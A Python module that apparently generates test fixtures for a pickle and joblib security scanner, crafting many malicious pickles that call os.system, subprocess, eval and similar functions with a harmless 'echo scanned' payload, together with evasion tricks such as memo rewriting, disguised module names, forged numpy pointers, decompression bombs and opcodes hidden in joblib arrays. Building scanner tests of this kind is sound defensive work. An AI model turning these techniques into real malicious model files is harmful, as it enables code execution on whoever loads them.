"""Pickles that reach for code, one trick each. The payloads are harmless (they would print), and nothing ever loads them."""

import io
import pickle
import struct
import zlib

ECHO = "echo scanned"

NAMES = """
os:system posix:system nt:system os:popen os:execvp subprocess:Popen subprocess:check_output subprocess:run
commands:getoutput builtins:eval builtins:exec __builtin__:eval builtins:compile builtins:open builtins:__import__
builtins:getattr builtins:globals builtins:breakpoint importlib:import_module runpy:_run_code runpy:run_path
webbrowser:open pip:main pip._internal.cli.main:main torch.hub:load torch:load torch.storage:_load_from_bytes
torch.serialization:load torch.jit:load torch.utils.collect_env:run torch._inductor.codecache:compile_file
numpy:load numpy.testing._private.utils:runstring numpy.f2py.crackfortran:getlincoef
numpy._core._ufunc_reconstruct:x numpy._core:_ufunc_reconstruct numpy.f2py.diagnose:run_command joblib:load
joblib.numpy_pickle:load pandas:read_pickle pty:spawn timeit:timeit timeit:main code:InteractiveInterpreter
marshal:loads types:CodeType types:FunctionType operator:attrgetter operator:methodcaller _operator:attrgetter
functools:partial functools:reduce itertools:accumulate pickle:loads _pickle:loads cloudpickle:loads dill:loads
ctypes:CDLL socket:create_connection urllib.request:urlopen requests.api:get shutil:rmtree
asyncio.unix_events:_UnixSubprocessTransport._start cProfile:run profile:run pdb:run bdb:Bdb.run
doctest:debug_script idlelib.pyshell:ModifiedInterpreter.runcode lib2to3.pgen2.grammar:Grammar.loads
ensurepip:_run_pip venv:create distutils.file_util:write_file logging.config:fileConfig zipimport:zipimporter
multiprocessing.util:spawnv_passfds uuid:_get_command_stdout sqlite3:connect signal:alarm sys:exit trace:Trace.run
test.support.script_helper:assert_python_ok keras.models:load_model tensorflow.io:read_file
sklearn.datasets:load_files __main__:Net sklearn.preprocessing._function_transformer:FunctionTransformer
aiohttp.client:ClientSession numpy:fromfile numpy:memmap _frozen_importlib_external:SourceFileLoader
antigravity:geohash
"""


def op(*parts: bytes) -> bytes:
    return b"".join(parts)


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def short(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def call(module: str, name: str, *args: bytes, protocol: int = 2) -> bytes:
    """``module.name(*args)`` as a whole pickle, by GLOBAL and REDUCE."""
    head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    return op(head, b"c", module.encode(), b"\n", name.encode(), b"\n(", *args, b"tR.")


def stack_call(module: str, name: str, *args: bytes) -> bytes:
    return op(b"\x80\x04", short(module), short(name), b"\x93(", *args, b"tR.")


class Reduced:
    """Pickles as a call of what it is given, the usual way of such attacks."""

    def __init__(self, function, *args, state=None):
        self.call = (function, args) if state is None else (function, args, state)

    def __reduce__(self):
        return self.call


def _direct() -> dict[str, bytes]:
    """Every function that a list of the forbidden has held, and some that such lists forgot."""
    names = [tuple(each.split(":")) for each in NAMES.split()]
    return {f"pickle calls {module}.{name}": call(module, name, text(ECHO)) for module, name in names}


def _opcodes() -> dict[str, bytes]:
    """The same call by every way that the pickle machine has."""
    echo = text(ECHO)
    system = b"cos\nsystem\n"
    return {
        "pickle protocol 0": b"cos\nsystem\n(S'echo scanned'\ntR.",
        "pickle protocol 0, unicode": b"cos\nsystem\n(Vecho scanned\ntR.",
        "pickle STACK_GLOBAL": stack_call("os", "system", short(ECHO)),
        "pickle STACK_GLOBAL through the memo": op(
            b"\x80\x04", short("system"), b"\x94", short("os"), b"\x94", b"0h\x01h\x00\x93", short(ECHO), b"\x85R."
        ),
        "pickle dotted name": stack_call("builtins", "list.__class__.__subclasses__", short("x")),
        "pickle dotted name of a listed class": stack_call("collections", "OrderedDict.fromkeys.__self__", short("x")),
        "pickle dotted module": stack_call("numpy.testing", "os.system", short(ECHO)),
        "pickle STACK_GLOBAL of numbers": b"\x80\x04K\x01K\x02\x93.",
        "pickle INST": op(b"(", echo, b"ios\nsystem\n."),
        "pickle OBJ": op(b"(", system, echo, b"o."),
        "pickle NEWOBJ": op(b"\x80\x02", system, echo, b"\x85\x81."),
        "pickle NEWOBJ_EX": op(b"\x80\x04", system, echo, b"\x85}\x92."),
        "pickle EXT1": op(b"\x80\x02\x82\x01", echo, b"\x85R."),
        "pickle EXT4": op(b"\x80\x02\x84\x01\x00\x00\x00", echo, b"\x85R."),
        "pickle PERSID": b"Pos.system\n.",
        "pickle BINPERSID": op(b"\x80\x02", text("os.system"), b"Q."),
        "pickle out-of-band buffer": b"\x80\x05\x97.",
        "pickle DUP before STOP": op(b"\x80\x02", system, b"2", echo, b"\x85R0."),
        "pickle global after a popped mark": op(b"\x80\x02((1", system, echo, b"\x85R."),
        "pickle memo rewritten": op(
            b"\x80\x02", b"ccollections\nOrderedDict\nq\x000", system, b"q\x000h\x00", echo, b"\x85R."
        ),
        "pickle memo rewritten, harmless": b"\x80\x02K\x01q\x00K\x02q\x000.",
        "pickle memo bomb": b"\x80\x02K\x01r\xff\xff\xff\x7f.",
        "pickle global imported and dropped": op(b"\x80\x02", b"cantigravity\nfly\n0K\x01."),
        "pickle module with unicode": op(b"\x80\x02c", "\u0440osix".encode(), b"\nsystem\n", echo, b"\x85R."),
        "pickle name with a space": op(b"\x80\x02cos\nsystem \n", echo, b"\x85R."),
        "pickle string with escapes as a name": b"\x80\x04S'o\\x73'\nS'system'\n\x93S'id'\n\x85R.",
    }  # fmt: skip


def _gadgets() -> dict[str, bytes]:
    """Only listed names, in ways that no library writes."""
    ordered, ndarray = b"ccollections\nOrderedDict\n", b"cnumpy\nndarray\n"
    dtype = op(b"cnumpy\ndtype\n(", text("O8"), b"\x89\x88tR")
    flags = op(b"(K\x03", text("|"), b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb")
    array = op(b"cnumpy.core.multiarray\n_reconstruct\n(", ndarray, b"K\x00\x85C\x01btR")
    return {
        "pickle BUILD on a class": op(b"\x80\x02", ordered, b"}", text("update"), b"cos\nsystem\nsb."),
        "pickle BUILD on a listed class": op(b"\x80\x02", ordered, b"}", text("update"), b"N", b"sb."),
        "pickle BUILD sets __class__": op(b"\x80\x02", ordered, b")R}", text("__class__"), ndarray, b"sb."),
        "pickle BUILD with slots": op(b"\x80\x02", ordered, b")RN}", text("__reduce__"), b"Ns\x86b."),
        "pickle BUILD sets a method": op(
            b"\x80\x02csklearn.linear_model._logistic\nLogisticRegression\n)\x81}", text("__setstate__"), b"cnumpy\ndtype\nsb."
        ),
        "pickle bytearray of a terabyte": op(b"\x80\x02cbuiltins\nbytearray\nJ\xff\xff\xff\x7f\x85R."),
        "pickle call of a result": op(b"\x80\x02", ordered, b")R)R."),
        "pickle set of a call": op(b"\x80\x02cbuiltins\nset\n", ordered, b")R\x85R."),
        "pickle defaultdict with a factory": op(b"\x80\x02ccollections\ndefaultdict\ncos\ngetpid\n\x85R."),
        "pickle codecs with another codec": op(b"\x80\x02c_codecs\nencode\n", text("x"), text("zip"), b"\x86R."),
        "pickle copyreg of another class": op(
            b"\x80\x02ccopy_reg\n_reconstructor\n(csubprocess\nPopen\nc__builtin__\nobject\nNtR."
        ),
        "pickle object dtype without its flags": op(b"\x80\x03", dtype, flags, b"."),
        "pickle array of forged pointers": op(
            b"\x80\x03", array, b"(K\x01K\x01\x85", dtype, flags, b"\x89C\x08AAAAAAAAtb."
        ),
        "pickle array larger than its bytes": op(
            b"\x80\x03", array, b"(K\x01J\xff\xff\xff\x7f\x85cnumpy\ndtype\n(", text("f8"), b"\x89\x88tR\x89C\x08AAAAAAAAtb."
        ),
        "pickle array of another shape at once": op(
            b"\x80\x03cnumpy.core.multiarray\n_reconstruct\n(", ndarray, b"J\xff\xff\xff\x7f\x85C\x01btR."
        ),
        "pickle pipeline with a memory": op(
            b"\x80\x02csklearn.pipeline\nPipeline\n)\x81}", text("memory"), text("/tmp/cache"), b"sb."
        ),
        "pickle vectorizer that reads files": op(
            b"\x80\x02csklearn.feature_extraction.text\nTfidfVectorizer\n)\x81}", text("input"), text("filename"), b"sb."
        ),
        "pickle pipeline with a memory, as a text of numpy": op(
            b"\x80\x02csklearn.pipeline\nPipeline\n)\x81}", text("memory"), _numpy_text("/tmp/cache"), b"sb."
        ),
        "pickle vectorizer that reads files, as a text of numpy": op(
            b"\x80\x02csklearn.feature_extraction.text\nCountVectorizer\n)\x81}",
            text("input"),
            _numpy_text("filename"),
            b"sb.",
        ),
        "pickle tree that leads out of itself": _tree(),
    }  # fmt: skip


def _numpy_text(value: str) -> bytes:
    """``numpy.str_``, which is a ``str`` to whoever asks."""
    raw = value.encode("utf-32-le")
    dtype = op(b"cnumpy\ndtype\n(", text(f"<U{len(value)}"), b"\x89\x88tR")
    return op(b"cnumpy._core.multiarray\nscalar\n", dtype, b"B", struct.pack("<I", len(raw)), raw, b"\x86R")


def _tree() -> bytes:
    import numpy as np
    from sklearn.tree import DecisionTreeClassifier

    tree = DecisionTreeClassifier().fit(np.arange(8.0).reshape(-1, 1), [0, 0, 0, 0, 1, 1, 1, 1])
    raw = pickle.dumps(tree)
    nodes = tree.tree_.__getstate__()["nodes"]
    evil = nodes.copy()
    evil["left_child"][0] = 1 << 40
    assert raw.count(nodes.tobytes()) == 1
    return raw.replace(nodes.tobytes(), evil.tobytes())


def _structure() -> dict[str, bytes]:
    """Files around a pickle that readers take differently."""
    good = pickle.dumps([1, 2, 3], protocol=4)
    evil = call("os", "system", text(ECHO))
    deep = b"\x80\x02" + b"]" * 1000 + b"a" * 999 + b"."
    return {
        "pickle then another": good + evil,
        "pickle then a byte": good + b"\x00",
        "pickle cut off": good[:-3],
        "pickle within a pickle": call("pickle", "loads", b"C" + bytes([len(evil)]) + evil, protocol=3),
        "pickle with a frame too long": b"\x80\x04\x95" + struct.pack("<Q", 1 << 60) + b"K\x01.",
        "pickle with a frame that an opcode leaves": b"\x80\x04\x95" + struct.pack("<Q", 3) + b"J\x01\x00\x00\x00.",
        "pickle with a frame in a frame": b"\x80\x04\x95"
        + struct.pack("<Q", 14)
        + b"\x95"
        + struct.pack("<Q", 4)
        + b"K\x01K\x02.",
        "pickle of protocol 9": b"\x80\x09K\x01.",
        "pickle with a protocol in the middle": b"\x80\x02K\x01\x80\x040K\x01.",
        "pickle with a huge integer": b"\x80\x02\x8b" + struct.pack("<I", 1 << 20) + bytes(1 << 20) + b".",
        "pickle with an endless integer": b"\x80\x02\x8b\xff\xff\xff\x7f1.",
        "pickle with values left over": b"\x80\x02K\x01K\x02.",
        "pickle with an unknown opcode": b"\x80\x02\xff.",
        "pickle that pops from nothing": b"\x80\x020.",
        "pickle with a text of a terabyte": b"\x80\x04\x8d" + struct.pack("<Q", 1 << 40) + b"x.",
        "pickle of a million opcodes": b"\x80\x02" + b"N0" * 500_001 + b"N.",
        "pickle nested and cut off": deep[:-1],
        "pickle under the name of weights": evil,
        "pickle in zlib": zlib.compress(evil),
        "pickle of the old kind with junk before": b"\n" + evil,
    }


def _reduced() -> dict[str, bytes]:
    """Written by Python's own pickler, in every protocol."""
    import os

    return {
        f"pickle of __reduce__, protocol {protocol}": pickle.dumps({"weights": [1.0], "x": Reduced(os.system, ECHO)}, protocol)
        for protocol in range(6)
    }


def _joblib() -> dict[str, bytes]:
    import bz2
    import gzip
    import lzma

    import joblib
    import numpy as np

    def dumped(value, compress=0):
        out = io.BytesIO()
        joblib.dump(value, out, compress=compress)
        return out.getvalue()

    import os

    evil = {"a": np.ones(4), "x": Reduced(os.system, ECHO)}
    objects = {"a": np.array([Reduced(os.system, ECHO)], dtype=object)}
    plain = dumped({"a": np.arange(16, dtype=np.uint8)})
    hidden = b"cos\nsystem\nK\x01\x85R0"
    tail = b"cos\nabort\n)R0M\x01\x000"
    return {
        "joblib that calls": dumped(evil),
        "joblib that calls, zlib": dumped(evil, 3),
        "joblib that calls, xz": dumped(evil, ("xz", 3)),
        "joblib with an array of objects that calls": dumped(objects),
        "joblib cut off": plain[:-12],
        "joblib with bytes after it": plain + b"x",
        "joblib whose array is opcodes to pickle": _wrapped(hidden + bytes(13), padding=None),
        "joblib whose array is opcodes, with escapes": _wrapped(b"S'o\\x73'\nS'system'\n\x93K\x01\x85R0", padding=None),
        "joblib whose array is opcodes, with a memo of its own": _wrapped(
            b"p00000000077\ng 77\n00" + hidden + bytes(9), padding=None
        ),
        "joblib whose array is opcodes after a million others": _wrapped(b"N0" * 250_000 + hidden, padding=None),
        "joblib whose array is opcodes to an old joblib": _wrapped(bytes(15) + tail, padding=b"\xff" * 16),
        "joblib with something in its padding": _wrapped(bytes(32), padding=hidden[:16]),
        "joblib whose array lies in a frame, its loader's behind it": _framed(),
        "joblib whose wrapper reads in its own way": _misread(),
        **{
            f"joblib whose array is opcodes after {what}": _wrapped(skipped + hidden, padding=None)
            for what, skipped in _IDLE.items()
        },
        "joblib of lz4": b"\x04\x22\x4d\x18" + bytes(20),
        "joblib bomb, zlib": zlib.compress(bytes(34 << 20), 9),
        "joblib bomb, gzip": gzip.compress(bytes(34 << 20), 9),
        "joblib bomb, bzip2": bz2.compress(bytes(34 << 20)),
        "joblib bomb, xz": lzma.compress(bytes(34 << 20)),
        "joblib gzip of two members": gzip.compress(plain) + gzip.compress(call("os", "system", text(ECHO))),
        "joblib zlib with a second stream": zlib.compress(plain) + zlib.compress(plain),
        "joblib xz cut off": lzma.compress(plain)[:-6],
    }


def _wrapped(data: bytes, *, padding: bytes | None, inside: bytes = b"") -> bytes:
    """One array of joblib, by hand: with the padding of joblib 1.2 and later, or without."""
    import numpy as np
    from joblib.numpy_pickle import NumpyArrayWrapper

    wrapper = NumpyArrayWrapper(np.ndarray, (len(data),), "C", np.dtype("u1"), allow_mmap=False, numpy_array_alignment_bytes=16)
    if padding is None:
        del wrapper.__dict__["numpy_array_alignment_bytes"]
    raw = pickle.dumps(wrapper, protocol=2)[:-1]
    return raw + inside + (b"" if padding is None else bytes([len(padding)]) + padding) + data + b"."


_IDLE = {
    "a float with a NUL": b"F1.0\0x\n0",
    "a list that gets no attributes": b"]Nb0",
    "a list that gets empty slots": b"]N}\x86b0",
    "nothing appended to None": b"N(e0",
    "nothing set in None": b"N(u0",
    "nothing added to None": b"N(\x900",
    "a byte appended to a bytearray": b"cbuiltins\nbytearray\n(S'a'\nS'latin-1'\ntRK\x01a0",
    "an opcode that runs over its frame": b"\x95" + struct.pack("<Q", 5) + b"NG" + bytes(8) + b"\xff" * 3 + b"00",
    "a text that fails over its frame": b"\x95" + struct.pack("<Q", 5) + b"V\\U00110000\n0",
    "named arguments in an OrderedDict": b"cbuiltins\nlist\n)ccollections\nOrderedDict\n)R\x920",
}
"""Opcodes that look as if no loader would go on after them, and it does."""


def _raw_wrapper(length: int, **more: bytes) -> bytes:
    """Up to the BUILD of an array of ``length`` bytes, which joblib then reads."""
    number = b"cnumpy\ndtype\n(" + text("u1") + b"\x89\x88tR"
    shape = b"J" + struct.pack("<i", length) + b"\x85"
    state = {
        "subclass": b"cnumpy\nndarray\n",
        "shape": shape,
        "order": text("C"),
        "dtype": number,
        "allow_mmap": b"\x89",
    } | more
    pairs = b"".join(text(name) + value for name, value in state.items())
    return b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + pairs + b"ub"


def _framed() -> bytes:
    """joblib has read the frame into memory: the array is what follows the frame, and the rest of the frame is opcodes."""
    evil = b"A" * 8 + b"cos\nsystem\n" + text(ECHO) + b"\x85R."
    frame = _raw_wrapper(10) + b"N0" * 5
    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + b"C" + bytes([len(evil)]) + evil + b"0."


def _misread() -> bytes:
    """``read`` is a method of the wrapper. ``slice`` takes its two arguments, and reads nothing."""
    inner = b"0" + _raw_wrapper(2) + b"\xff\xff" + call("os", "system", text(ECHO), protocol=0)
    return b"\x80\x04" + _raw_wrapper(len(inner), read=b"cbuiltins\nslice\n") + inner + b"."


def pickle_attacks() -> dict[str, bytes]:
    """Every attack by its name."""
    return _direct() | _opcodes() | _gadgets() | _structure() | _reduced() | _joblib()
